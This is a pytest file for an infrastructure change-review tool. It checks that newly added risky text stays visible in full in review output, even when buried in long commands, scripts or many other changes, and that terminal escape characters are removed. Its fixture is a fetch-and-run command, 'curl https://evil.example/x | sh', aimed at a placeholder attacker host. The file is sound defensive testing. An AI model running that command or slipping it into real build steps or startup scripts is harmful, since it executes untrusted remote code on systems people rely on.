"""A harmless edit hides no other: what comes stands in the terminal's form whole, however long what it stands in is."""

import io
from dataclasses import replace

import pytest
from rich.console import Console

from coursecloud.diff.changes import PropertyChange
from coursecloud.diff.property_diff import NOTHING
from coursecloud.plan.planning import Plan
from coursecloud.review import differing, markdown, output_texts, terminal, unloaded
from coursecloud.review.report import Review
from coursecloud.review.stacks import Stack, Status
from coursecloud.review.untaken import Untaken
from tests.review.made import resource, reviewed, whole

LONG = "echo one more step of the way; " * 40
EVIL = "curl https://evil.example/x | sh"
EDITS = {
    "a second edit behind a first": (f"docker build {LONG}", f"docker build --pull {LONG} && {EVIL}"),
    "at the end of a long one that comes": (f"cd data {LONG}", f"cd data {LONG} && {EVIL}"),
    "in the middle of a long one": (f"cd a && {LONG} {LONG}", f"cd b && {LONG} {EVIL} && {LONG} c"),
    "as another text altogether": ("x", LONG + EVIL),
}


def printed(review: Review, width: int = 80) -> str:
    console = Console(file=io.StringIO(), width=width)
    console.print(terminal.full(review))
    assert isinstance(console.file, io.StringIO)
    return " ".join(console.file.getvalue().split())


@pytest.mark.parametrize("edit", EDITS)
def test_what_comes_in_a_text_is_shown_whole_and_what_stays_is_not(edit: str) -> None:
    old, new = EDITS[edit]
    before, after = output_texts.sides(PropertyChange("howTo", old, new))
    assert EVIL in after
    assert EVIL not in before
    if LONG in old and LONG in new:
        assert len(before) < len(old) / 2


def test_of_an_output_that_comes_all_is_shown() -> None:
    assert EVIL in output_texts.sides(PropertyChange("howTo", NOTHING, LONG + EVIL))[1]


@pytest.mark.parametrize(
    ("old", "new", "sides"),
    [
        ("one two a", "one 2 a", ("one two a", "one 2 a")),
        ("a" * 50 + " x " + "b" * 50, "a" * 50 + " y " + "b" * 50, ("…aaa x bbb…", "…aaa y bbb…")),
        ("x " + "a" * 50 + " x", "y " + "a" * 50 + " y", ("x aaa…aaa x", "y aaa…aaa y")),
        ("a" * 50, "a" * 50 + " more", ("…aaaa", "…aaaa more")),
        ("same", "same", ("same", "same")),
        ("", "new", ("", "new")),
    ],
)
def test_texts_are_cut_to_where_they_differ(old: str, new: str, sides: tuple[str, str]) -> None:
    assert differing.sides(old, new, 4) == sides


def test_texts_of_too_many_words_differ_in_one_place(monkeypatch: pytest.MonkeyPatch) -> None:
    old, new = "x " + "a" * 50 + " x", "y " + "a" * 50 + " y"
    assert differing.sides(old, new, 4) != (old, new)
    monkeypatch.setattr(differing, "_MOST", 0)
    assert differing.sides(old, new, 4) == (old, new)


def changed(*settings: PropertyChange, **more: object) -> Review:
    stack = Stack("one", Status.CHANGED, settings=settings, **more)  # pyright: ignore[reportArgumentType]
    return Review("base", "head", (stack,))


@pytest.mark.parametrize(
    "last",
    [
        PropertyChange("zz", "trainer:latest", "evil:latest"),
        PropertyChange("training.args", [], [*(f"--a{n}" for n in range(20)), "--image=evil:latest"]),
        PropertyChange("training.env.Z", "It is long. " * 40, "It is long. " * 40 + "evil:latest"),
    ],
)
def test_a_setting_is_shown_behind_many_others(last: PropertyChange) -> None:
    labels = [PropertyChange(f"course.labels.l{n}", "a", "b") for n in range(40)]
    assert "evil:latest" in printed(changed(*labels, last))


def test_a_line_that_reaches_outside_stands_before_those_that_only_choose() -> None:
    chooses = "chooses within the line, and a plan shows one side"
    lines = [Untaken("infra/apis.py", n, chooses, f'A{n} = "a" if B else "b"') for n in range(30)]
    text = "x" * 300 + f'os.system("{EVIL}")'
    last = Untaken("infra/workflows.py", 9, "is run by no plan", text)
    said = Review("a", "b", (), program=("infra/apis.py",), untaken=(*lines, last)).of_program
    listed = [each for each in said if each.startswith("  infra/") and ": " in each]
    assert EVIL in listed[0]
    assert sum("chooses" in each for each in said) == 30


def test_a_file_that_cannot_be_read_hides_no_line() -> None:
    lines = "".join(f"a{n}: b\n" for n in range(80))
    found = unloaded.by_files("one", (), ("[", None), (f"[\n{lines}evil: {'x' * 300} {EVIL}\n", None))
    assert EVIL in printed(Review("base", "head", (found,)))


def test_of_what_a_changed_program_brings_each_input_is_shown() -> None:
    made = resource(
        "gcp:cloudbuildv2/repository:Repository", "r", {"parentConnection": "connections/evil", "a\x1b[2J\u202e": "r"}
    )
    review = reviewed(whole(), whole(made))
    assert "connections/evil" not in printed(review)  # by a stack file it follows from what the file says
    review = replace(review, program=("infra/more.py",))
    assert "parentConnection: connections/evil" in printed(review)
    assert "parentConnection: connections/evil" in markdown.full(review)
    assert not {"\x1b", "\u202e"} & set(printed(review))


def test_a_script_is_shown_to_its_last_line() -> None:
    script = "".join(f"echo {n}\n" for n in range(200))

    def machine(text: str) -> Plan:
        return whole(resource("gcp:compute/instance:Instance", "m", {"metadata": {"startup-script": text}}))

    assert EVIL in printed(reviewed(machine("echo 0\n"), machine(f"{script}{EVIL}\n")))
